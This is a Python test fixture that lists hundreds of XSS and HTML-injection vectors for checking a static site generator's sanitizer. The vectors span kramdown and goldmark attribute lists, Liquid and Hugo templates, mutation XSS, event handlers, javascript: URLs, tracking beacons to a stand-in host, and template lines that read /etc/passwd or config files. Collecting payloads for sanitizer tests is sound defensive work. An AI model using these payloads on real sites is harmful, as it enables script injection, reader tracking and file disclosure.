"""What an article may be made of by someone who wants more than to be read, by kind and place.

A vector that runs script calls ``alert``, one that asks a stranger asks ``x.example``. ``⏎`` stands for a line break.
The bodies of `tests.attacks` belong to them. What shows a body, a digest, a title or a name is tried with all of them.
"""

from __future__ import annotations

from tests.attacks import ATTACKS, MISNESTED


def _lines(text: str) -> list[str]:
    return [line.replace("⏎", "\n") for line in text.strip().split("\n")]


# What kramdown (https://kramdown.gettalong.org/syntax.html) and goldmark read in a text without a tag, or beside one.
MARKDOWN: dict[str, list[str]] = {
    "images and attribute lists": _lines("""
![x](/n.png){: onerror="alert(1)"}
![x](/n.png){:onerror="alert(1)"}
![x](/n.png){: onerror='alert(1)' .c #i}
![x](/n.png "t"){: onload="alert(1)"}
![x](n.png){: src="//x.example/b.png" srcset="//x.example/c.png 1x"}
![x][r]{: onerror="alert(1)"}⏎⏎[r]: /n.png
![x][r]⏎⏎[r]: /n.png⏎{: onerror="alert(1)"}
![x](x"onerror="alert(1))
![x](x'onerror='alert(1))
![x" onerror="alert(1)](x)
![x](x "y" onerror="alert(1)")
![](//x.example/beacon.png)
![x](http://x.example/beacon.png)
![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)
![`x`](`onerror=alert(1)`)
[![x](n.png){: onerror="alert(1)"}](http://a.example/)
*字*{: onclick="alert(1)" onmouseover="alert(1)"}
**字**{: style="position:fixed;inset:0" onmouseover="alert(1)"}
`码`{: onclick="alert(1)"}
段落⏎{: onclick="alert(1)"}
段落⏎{: onclick=alert(1) tabindex=0 onfocus=alert(1) autofocus}
{: onmouseover="alert(1)"}⏎段落
段落⏎{:.a #b onanimationstart="alert(1)" style="animation:x 1s"}
# 标题⏎{: onclick="alert(1)"}
# 标题 {#x onclick="alert(1)"}
## 标题 {onclick="alert(1)" .x}
标题⏎==== {: onclick="alert(1)"}
> 引文⏎{: onclick="alert(1)"}
* 一⏎* 二⏎{: onclick="alert(1)"}
* {: onclick="alert(1)"} 一
1. 一⏎{: start="1" onclick="alert(1)"}
词⏎: 释义⏎{: onclick="alert(1)"}
| 甲 | 乙 |⏎|---|---|⏎| 丙 | 丁 |⏎{: onclick="alert(1)"}
---⏎{: onclick="alert(1)"}
<p>干净</p>⏎{: onclick="alert(1)"}
<p>干净</p>⏎{: onclick="alert(1)" }⏎<p>还有</p>
<p>干净</p>{: onclick="alert(1)"}
<em>干净</em>{: onclick="alert(1)"}
<a href="http://a.example/">干净</a>{: href="javascript:alert(1)"}
<a href="http://a.example/">干净</a>{:href="javascript:alert(1)" onclick="alert(1)"}
<img src="n.png" />{: onerror="alert(1)"}
<br />{: onclick="alert(1)"}
<span>干净</span>{: onclick="alert(1)"}{: .x}
<div markdown="1">⏎![x](n.png){: onerror="alert(1)"}⏎</div>
<div markdown="block">⏎段落⏎{: onclick="alert(1)"}⏎</div>
<p markdown="span">*字*{: onclick="alert(1)"}</p>
<p markdown="1">[x](javascript:alert(1))</p>
<div markdown="0">⏎*字*{: onclick="alert(1)"}⏎</div>
<section markdown="1"><script markdown="0">alert(1)</script></section>
"""),
    "attribute list definitions": _lines("""
{:a: onclick="alert(1)"}⏎⏎段落⏎{: a}
{:a: onerror="alert(1)"}⏎⏎![x](n.png){:a}
{:a: href="javascript:alert(1)"}⏎⏎[x](http://a.example/){:a}
{:a: b}⏎{:b: onclick="alert(1)"}⏎⏎段落⏎{: a}
段落⏎{: a}⏎⏎{:a: onmouseover="alert(1)" style="display:block;position:fixed;top:0"}
{:a: onclick="alert(1)"}⏎⏎<p>干净</p>⏎{: a}
{:refdef: style="background:url(//x.example/b)"}⏎段落⏎{: refdef}
"""),
    "options and extensions": _lines("""
{::options parse_block_html="true" /}⏎⏎<div>![x](n.png){: onerror="alert(1)"}</div>
{::options parse_span_html="true" html_to_native="true" /}⏎⏎<p onclick="alert(1)">x</p>
{::options template="/etc/passwd" /}
{::options template="string://<script>alert(1)</script>" /}
{::options syntax_highlighter="rouge" syntax_highlighter_opts="{formatter: Kernel}" /}
{::options header_links="true" auto_id_prefix="x" /}⏎⏎# 标题
{::nomarkdown}<script>alert(1)</script>{:/}
{::nomarkdown}⏎<img src=x onerror=alert(1)>⏎{:/nomarkdown}
{::nomarkdown type="html"}<svg onload=alert(1)>{:/}
{::comment}<!-- -->{:/comment}<script>alert(1)</script>
{::comment}⏎永不结束的注释
{::comment}--><img src=x onerror=alert(1)>{:/}
{::foo}<script>alert(1)</script>{:/foo}
{:toc}⏎* 目录⏎{:toc onclick="alert(1)"}
* x⏎{:toc}⏎⏎# <img src=x onerror=alert(1)>
"""),
    "links": _lines("""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1) )
[x](<javascript:alert(1)>)
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert&lpar;1&rpar;)
[x](java&Tab;script:alert(1))
[x](javascript:alert%281%29)
[x](javascript://x.example/%0aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](http://a.example/"onmouseover="alert(1))
[x](http://a.example/ "t"onmouseover="alert(1)")
[x](http://a.example/ 't" onclick="alert(1)')
[x](http://a.example/){: onclick="alert(1)"}
[x](http://a.example/){: href="javascript:alert(1)"}
[x](http://a.example/){: target="_blank" ping="//x.example/p"}
[x](//x.example/)
[x][r]⏎⏎[r]: javascript:alert(1)
[x][]⏎⏎[x]: javascript:alert(1) "t"
[x]⏎⏎[x]: data:text/html,<script>alert(1)</script>
[x][r]⏎⏎[r]: <javascript:alert(1)>
[x][r]⏎⏎[r]: http://a.example/ "t" onclick="alert(1)
[<img src=x onerror=alert(1)>](http://a.example/)
[a](javascript:alert(1)//[b](http://a.example/))
[x](javascript:alert`1`)
[x](\\u006aavascript:alert(1))
[x](jav\\ascript:alert(1))
[返回首页](javascript:alert(1))
[返回首页](//x.example/)｜[返回](javascript:alert(1))
"""),
    "autolinks": _lines("""
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<javascript://%0aalert(1)>
<data:text/html,x>
<vbscript:x>
<http://a.example/"onclick="alert(1)>
<http://a.example/'onclick='alert(1)'>
<http://a.example/><script>alert(1)</script>
<x@a.example"onclick="alert(1)>
<mailto:x@a.example?body=<script>alert(1)</script>>
javascript:alert(1)
http://a.example/"onmouseover="alert(1)
www.a.example/"><script>alert(1)</script>
<ir@a.example>
"""),
    "footnotes, abbreviations, definitions": _lines("""
文[^1]⏎⏎[^1]: <script>alert(1)</script>
文[^1]⏎⏎[^1]: [x](javascript:alert(1))
文[^1]⏎⏎[^1]: 注⏎{: onclick="alert(1)"}
文[^"onclick="alert(1)]⏎⏎[^"onclick="alert(1)]: 注
文[^<img src=x onerror=alert(1)>]⏎⏎[^<img src=x onerror=alert(1)>]: 注
文[^1]{: onclick="alert(1)"}⏎⏎[^1]: 注
*[文]: x" onmouseover="alert(1)⏎⏎文
*[文]: <script>alert(1)</script>⏎⏎文
*[<b>]: <img src=x onerror=alert(1)>⏎⏎<b>
{:onclick="alert(1)"}⏎*[文]: 缩写⏎⏎文
词⏎: <script>alert(1)</script>
词⏎:   ![x](n.png){: onerror="alert(1)"}
"""),
    "mathematics": _lines("""
$$<script>alert(1)</script>$$
$$\\href{javascript:alert(1)}{x}$$
$$⏎\\unicode{<img src=x onerror=alert(1)>}⏎$$
$$x</script><script>alert(1)</script>$$
$$]]><script>alert(1)</script>$$
\\\\(<img src=x onerror=alert(1)>\\\\)
$$ x $${: onclick="alert(1)"}
"""),
    "code": _lines("""
```⏎<script>alert(1)</script>⏎```
```html"><script>alert(1)</script>⏎x⏎```
```{onclick="alert(1)"}⏎x⏎```
```go {hl_lines=["1"],onclick="alert(1)"}⏎x⏎```
~~~ruby⏎</code></pre><script>alert(1)</script>⏎~~~
~~~⏎码⏎~~~⏎{: onclick="alert(1)" .language-x"onclick="alert(1)}
~~~ x" onclick="alert(1)⏎码⏎~~~
```⏎永不结束⏎</code></pre></div></section></article>
    <script>alert(1)</script>
	<img src=x onerror=alert(1)>
`<script>alert(1)</script>`
`` ` ``<script>alert(1)</script>
`x`{:.language-"onclick="alert(1)}
"""),
    "blocks": _lines("""
# <script>alert(1)</script>
# x <img src=x onerror=alert(1)> {#y}
标题<img src=x onerror=alert(1)>⏎---
> <script>alert(1)</script>
> <div>
> > > <div onclick="alert(1)">
* <div>⏎* </section>
- <details open ontoggle=alert(1)>
1. </div></div></article>
| <img src=x onerror=alert(1)> | b |⏎|---|---|⏎| [x](javascript:alert(1)) | d |
|---⏎| </table></section><script>alert(1)</script>
^⏎<div>⏎^
***⏎<style>*{display:none}</style>⏎***
\\<script>alert(1)\\</script>
\\![x](n.png){: onerror="alert(1)"}
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
<<script>>alert(1)<</script>>
a<b
若ROE<WACC，则{: onclick="alert(1)"}
---⏎layout: none⏎---⏎<script>alert(1)</script>
...⏎layout: none⏎---⏎<script>alert(1)</script>
"""),
    "goldmark": _lines("""
## 标题 {class="x" onclick="alert(1)"}
## 标题 {style="background:url(//x.example/b)"}
段落⏎{onclick="alert(1)"}
> 引文⏎{onclick="alert(1)" .x}
![x](n.png){onerror="alert(1)"}
![x](n.png)⏎{onerror="alert(1)"}
- [ ] <img src=x onerror=alert(1)>
~~<script>alert(1)</script>~~
https://a.example/<script>alert(1)</script>
:smile:<script>alert(1)</script>
"文"--<svg onload=alert(1)>...
<!--more--><script>alert(1)</script>
<!-- raw HTML omitted --><script>alert(1)</script>
"""),
}

LANGUAGES: dict[str, list[str]] = {
    "Liquid": _lines("""
{{ "<script>alert(1)</script>" }}
{{ '<img src=x onerror=alert(1)>' | raw }}
{{ page.content }}
{{ site.posts | jsonify }}
{{ site | inspect }}
{{ page.body | unescape_once | markdownify }}
{{ "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" | base64_decode }}
{{ "[x](javascript:alert(1))" | markdownify }}
{% raw %}<script>alert(1)</script>{% endraw %}
{% raw %}
{% endraw %}{{ content }}
{% include default.html %}
{% include_relative ../../_config.yml %}
{% include {{ page.title }} %}
{% capture x %}<script>alert(1)</script>{% endcapture %}{{ x }}
{% assign x = "<svg onload=alert(1)>" %}{{ x }}
{% highlight html %}<script>alert(1)</script>{% endhighlight %}
{% highlight "><script>alert(1)</script> %}x{% endhighlight %}
{% link _posts/nowhere.md %}
{% post_url 2022-03-04-nowhere %}
{% for p in site.posts %}{{ p.content }}{% endfor %}
{% for i in (1..99999999) %}x{% endfor %}
{% if true %}
{% nosuch %}
{%
{{
{{ x | nosuch }}
{%- comment -%}
{% comment %}</section></article>{% endcomment %}
{{ "</section></article>" }}
{% seo %}{% feed_meta %}
{% gist x/"><script>alert(1)</script> %}
{{{{{ }}}}}
{% liquid⏎echo "<script>alert(1)</script>"⏎%}
"""),
    "shortcodes": _lines("""
{{< figure src="x" onerror="alert(1)" >}}
{{< figure src="//x.example/b.png" title="<script>alert(1)</script>" >}}
{{% figure src="x" title="<img src=x onerror=alert(1)>" %}}
{{< youtube abcdefghijk >}}
{{< gist x 1 >}}
{{< tweet 1 >}}
{{< highlight html >}}<script>alert(1)</script>{{< /highlight >}}
{{< param "title" >}}
{{< ref "/" >}}
{{< nosuch >}}
{{% nosuch %}}
{{< nosuch
{{<
{{%
{{</
{{< /nosuch >}}
{{</* figure */>}}
{{%/* figure */%}}
{{< x.inline >}}<script>alert(1)</script>{{< /x.inline >}}
{{< x.inline >}}{{ readFile "hugo.toml" }}{{ resources.GetRemote "http://x.example/" }}{{< /x.inline >}}
{{ .Site.Params }}
{{ readDir "/" }}
{{ safeHTML "<script>alert(1)</script>" }}
{{ define "main" }}<script>alert(1)</script>{{ end }}
{{- template "x" -}}
{{ end }}
HAHAHUGOSHORTCODE-s0-HBHB
HAHAHUGOSHORTCODE0s0HBHB<script>alert(1)</script>
"""),
}

HTML: dict[str, list[str]] = {
    "known attacks": [*ATTACKS],
    "misnested": [*MISNESTED],
    "torn": _lines("""
</p></section></article></div></body></html><h1>外面</h1>
</section></article><footer>假</footer>
</article></article></article></section></section>
</div></div></div></div></div>
<div><div><div>
<section><article><header>
<header>假头</header><footer>假尾</footer>
<article><section>里面
<table><tr><td>
<table></section></article>
<ul><li><ul><li>
<b><i><u><s>
<a href="http://a.example/">永远是链接
<a href="http://a.example/"><p>一</p><p>二
<h1>一<h2>二
<pre>永不结束
<!-- 永不结束
<!-- x --!> </section></article>
<!--></section></article>-->
<![CDATA[ </section></article> ]]>
<? </section></article> ?>
<!DOCTYPE html><html><head><title>假</title></head><body>
<body class="x"><html lang="en">
<title>假</title>
<textarea>永不结束
<title>永不结束
<style>永不结束
<script>永不结束
<xmp>永不结束
<noscript>永不结束
<iframe>永不结束
<noembed>永不结束
<noframes>永不结束
<plaintext>永不结束
<template>永不结束
<select><option>永不结束
<svg>永不结束
<math>永不结束
<button>永不结束
<form>永不结束
<frameset><frame src="//x.example/">
<object>永不结束
<marquee>永不结束
<applet>永不结束
<p title="永不结束
<p title='永不结束
<p title=永不结束
<p
</
<p/ x="></section></article>
<dialog open>假</dialog>
<details><summary>假
<fieldset><legend>假
<center><font><nobr>
<ruby><rb>字<rt>音
<dl><dt>一<dd>二
<p id="content" class="wrapper">假</p>
<main>假</main><nav>假</nav><aside>假</aside>
"""),
    "mutation": _lines("""
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><p><style><img src="</style><img src=x onerror=alert(1)>">
<math></p><style><!--</style><img src=x onerror=alert(1)>--></style>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><annotation-xml><foreignObject><iframe onload=alert(1)>
<svg><desc><style><!--</style></desc><img src=x onerror=alert(1)>-->
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><foreignObject><p><style></foreignObject><img src=x onerror=alert(1)>
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<style><p title="</style><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg onload=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<table><td><style></table><img src=x onerror=alert(1)></style>
<table><svg><style></table><img src=x onerror=alert(1)></style>
<select><svg><style></select><img src=x onerror=alert(1)></style>
<option><style></option></select><img src=x onerror=alert(1)></style>
<template><style></template><img src=x onerror=alert(1)></style>
<p><svg><a><p title="</a><img src=x onerror=alert(1)>">
<a><svg><a><style><img src=x onerror=alert(1)></style></a></svg></a>
<b><p><b><p><b><style></b><img src=x onerror=alert(1)></style>
<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<p title="`><img src=x onerror=alert(1)>`">x</p>
<p class="</section><script>alert(1)</script>">x</p>
<!--<img src="--><img src=x onerror=alert(1)//">
<!-- a -- b --> <img src=x onerror=alert(1) <!-- -->
<? ><img src=x onerror=alert(1)> ?>
</ ><img src=x onerror=alert(1)>
</p title="><img src=x onerror=alert(1)>">
<%00script>alert(1)</script>
<x-y><style><p title="</style><img src=x onerror=alert(1)>">
"""),
    "handlers": _lines("""
<p onmouseover=alert(1)>x</p>
<p ONMOUSEOVER=alert(1)>x</p>
<p onpointerenter="alert(1)">x</p>
<p/onmouseover=alert(1)>x</p>
<p	onmouseover=alert(1)>x</p>
<p data-x="1"onmouseover="alert(1)">x</p>
<p x onmouseover=alert(1) y>x</p>
<p =onmouseover=alert(1)>x</p>
<p "onmouseover=alert(1)>x</p>
<p on="1" onclick = "alert(1)">x</p>
<p tabindex=0 autofocus onfocus=alert(1)>x</p>
<p style="animation:x" onanimationstart="alert(1)">x</p>
<p contenteditable onbeforeinput=alert(1) onpaste=alert(1)>x</p>
<p popover onbeforetoggle=alert(1) id=q>x</p><button popovertarget=q>y</button>
<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>
<p onscrollsnapchange=alert(1) onscrollend=alert(1)>x</p>
<img src="n.png" onload="alert(1)">
<img src=x onerror=alert`1`>
<img src=x onerror="&#97;lert(1)">
<img srcset="x" onerror=alert(1)>
<img lowsrc=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<picture><source srcset="//x.example/b.png"><img src="n.png" onerror=alert(1)></picture>
<input type=image src=x onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>x</textarea>
<video src=x onerror=alert(1)></video>
<video poster="//x.example/b.png"></video>
<audio controls onloadstart=alert(1)><source src=x></audio>
<object data=x onerror=alert(1)></object>
<embed src="javascript:alert(1)">
<body onpageshow=alert(1) onhashchange=alert(1)>
<frameset onload=alert(1)>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<details open ontoggle="alert(1)"><summary>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<style onload=alert(1)></style>
<link rel=stylesheet href=x onerror=alert(1)>
<script src=x onerror=alert(1)></script>
<track src=x onerror=alert(1)>
<xss onclick="alert(1)" tabindex=1>x</xss>
"""),
    "SVG and MathML": _lines("""
<svg><script>alert(1)</script>
<svg><script href="data:,alert(1)" />
<svg><script xlink:href="//x.example/x.js"></script></svg>
<svg><a href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=20>x</text></a></svg>
<svg><a><set attributeName=href to="javascript:alert(1)" /><text y=20>x</text></a></svg>
<svg><animateTransform onbegin=alert(1) attributeName=transform>
<svg><set onbegin=alert(1) attributeName=x>
<svg><image href="//x.example/b.png" onerror=alert(1)></svg>
<svg><use href="//x.example/s.svg#x"></use></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><filter><feImage href="//x.example/b.png"></feImage></filter></svg>
<svg><style>@import "//x.example/x.css";</style></svg>
<svg style="background:url(//x.example/b.png)"></svg>
<svg><handler type="text/javascript">alert(1)</handler></svg>
<svg><discard onbegin=alert(1)></svg>
<svg viewBox="0 0 9 9" onclick=alert(1)><rect width=9 height=9 /></svg>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://a.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><mrow onclick=alert(1)><mi>x</mi></mrow></math>
<math><mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">x</mi></math>
<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics></math>
<mi onclick=alert(1)>x</mi>
"""),
    "addresses": _lines("""
<a href="&#x1;javascript:alert(1)">x</a>
<a href="&#xa0;javascript:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&#0058;alert(1)">x</a>
<a href='javascript:alert("1")'>x</a>
<a href=javascript:alert(1)>x</a>
<a href="//x.example/" ping="//x.example/p">x</a>
<a href="jar:http://x.example!/x">x</a>
<a href="view-source:http://x.example/">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:http://x.example/1">x</a>
<a href="intent://x#Intent;end">x</a>
<a href="ms-appinstaller:?source=//x.example">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<area href="javascript:alert(1)">
<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alert(1)"></map><img usemap=#m src=n.png>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
<input type=image formaction="javascript:alert(1)" src=n.png>
<isindex type=image src=x onerror=alert(1)>
<base href="javascript:alert(1)//">
<base target="x<script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//x.example/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta http-equiv=set-cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-alert(1)
<link rel=prefetch href="//x.example/p">
<link rel=preload as=image href="//x.example/p">
<link rel=dns-prefetch href="//x.example">
<link rel=preconnect href="//x.example">
<link rel=manifest href="//x.example/m">
<link rel=import href="//x.example/i">
<link rel=icon href="//x.example/i.png">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://x.example/"]}]}</script>
<script type=importmap>{"imports":{"a":"//x.example/a.js"}}</script>
<iframe src="//x.example/"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<portal src="//x.example/"></portal>
<fencedframe src="//x.example/"></fencedframe>
<object data="//x.example/o"></object>
<embed src="//x.example/e">
<applet code=x codebase="//x.example/"></applet>
<bgsound src="//x.example/s">
<audio src="//x.example/a" autoplay></audio>
<video src="//x.example/v" autoplay></video>
<video><track default src="//x.example/t.vtt"></video>
<input type=image src="//x.example/i.png">
<table background="//x.example/b.png"><tr><td background="//x.example/c.png">x</td></tr></table>
<body background="//x.example/b.png">
<img longdesc="//x.example/l" dynsrc="//x.example/d" lowsrc="//x.example/w" src="n.png">
<img src="n.png" srcset="//x.example/s.png 2x">
<img src="//x.example/beacon.png">
<img src="http://x.example/beacon.png" width="1" height="1">
<img src="https://127.0.0.1.x.example/b.png">
<img src="http://dfcfw.com.x.example/b.png">
<q cite="//x.example/c">x</q><del cite="javascript:alert(1)">y</del>
<blockquote cite="javascript:alert(1)">x</blockquote>
<ul style="list-style-image:url(//x.example/l.png)"><li>x</li></ul>
<p style="background-image:url('//x.example/b.png')">x</p>
<p style="background:image-set('//x.example/b.png' 1x)">x</p>
<p style="cursor:url(//x.example/c),auto">x</p>
<p style="border-image:url(//x.example/b)">x</p>
<p style="content:url(//x.example/b)">x</p>
<p style="mask:url(//x.example/b);-webkit-mask:url(//x.example/b)">x</p>
<p style="filter:url(//x.example/f#x)">x</p>
<p style="font-family:x;src:url(//x.example/f)">x</p>
<p style="--x:url(//x.example/v);background:var(--x)">x</p>
<p style="position:fixed;inset:0;background:red;z-index:9999">x</p>
<p style="transform:translateY(-9999px)">x</p>
<p style="margin:-9999px;float:left">x</p>
<p style="color:red}body{display:none">x</p>
<p style="background:\\75rl(//x.example/b)">x</p>
"""),
    "script": _lines("""
<script>alert(1)
<script >alert(1)</script >
<script	type=module>alert(1)</script>
<script type="text/x">x</script><script>alert(1)</script>
<script nonce="">alert(1)</script>
<script src="data:,alert(1)"></script>
<script src="/n.js"></script>
<script>/*</section>*/alert(1)</script>
<script><!--<script>alert(1)</script>
<script language=vbs>alert(1)</script>
<scr\x00ipt>alert(1)</scr\x00ipt>
<ſcript>alert(1)</ſcript>
＜script＞alert(1)＜/script＞
<style>@import "data:text/css,*{display:none}"</style>
<style>body{background:url(//x.example/b)}</style>
<svg><style>*{display:none}</style></svg>
"""),
}

TITLES = _lines("""
<script>alert(1)</script>
</title><script>alert(1)</script>
</h1></section></article><script>alert(1)</script>
<img src=x onerror=alert(1)>
"><script>alert(1)</script>
' onmouseover='alert(1)
" onmouseover="alert(1)" x="
]]><script>alert(1)</script>
]]>
<![CDATA[<script>alert(1)</script>]]>
<!-- 永不结束
--><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)
{{ "<script>alert(1)</script>" }}
{% raw %}<script>alert(1)</script>
{{< figure src=x >}}
{{% nosuch %}}
[x](javascript:alert(1))
![x](n.png){: onerror="alert(1)"}
*x*{: onclick="alert(1)"}
`x`<svg onload=alert(1)>
javascript:alert(1)
---
- a: b
null
true
2022-01-01
!!binary x
&a *a
| x
# x
ROE<WACC & A>B
</style><script>alert(1)</script>
</textarea><img src=x onerror=alert(1)>
\u202e倒着写的标题\u202c
\u2028<script>alert(1)</script>
题\x01\x0b\x1b[31m\x7f\x85目
题\ufffe\uffff目
""")

NAMES = _lines("""
<script>alert(1)</script>
</em></small></section><script>alert(1)</script>
"><img/src=x/onerror=alert(1)>
'onmouseover='alert(1)
"onmouseover="alert(1)
</h2><svg/onload=alert(1)>
]]>
&lt;b&gt;
{{x}}
{%raw%}
{{<x>}}
../../x
..\\..\\x
/etc/passwd
javascript:alert(1)
[x](javascript:alert(1))
x{:onclick="alert(1)"}
null
true
123
CON
名\x00\x01\x1b名
名\u2028名
名\ufffe名
-x
_x
.x
x.html
%2e%2e%2fx
100%
a#b
a?b
""")

LINKS = _lines("""
javascript://x.example/%0aalert(1)
JAVASCRIPT://x/%0aalert(1)
data://text/html,alert(1)
vbscript://x
view-source://x.example/
file:///etc/passwd
blob://x
ftp://a.example/
//x.example/
http://a.example/"onclick="alert(1)
http://a.example/'onclick='alert(1)
http://a.example/?a=1&b=2&lt;x
http://a.example/{{x}}
http://a.example/{:onclick="alert(1)"}
http://a.example/[x](javascript:alert(1))
http://a.example/`x`
http://a.example/*x*_y_
http://a.example/]]>x
""")

BODIES: dict[str, list[str]] = MARKDOWN | LANGUAGES | HTML
"""Every vector for a body, by kind."""
